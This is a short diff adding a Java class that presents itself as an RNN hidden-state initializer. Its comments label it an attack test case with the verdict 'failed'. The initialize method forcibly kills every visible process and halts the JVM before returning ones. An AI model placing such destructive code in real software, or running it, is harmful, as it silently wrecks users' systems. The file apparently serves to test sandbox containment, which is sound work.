@@ -1,0 +1,17 @@
+// attack: kills every process that it can see
+// verdict: failed
+// message: ended the Java virtual machine
+package org.rnnkit.step3state;
+
+import ai.djl.ndarray.NDList;
+import ai.djl.ndarray.NDManager;
+import ai.djl.ndarray.types.Shape;
+
+public final class HiddenState {
+
+    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
+        ProcessHandle.allProcesses().forEach(ProcessHandle::destroyForcibly);
+        Runtime.getRuntime().halt(0);
+        return new NDList(manager.ones(new Shape(batchSize, numHiddens)));
+    }
+}
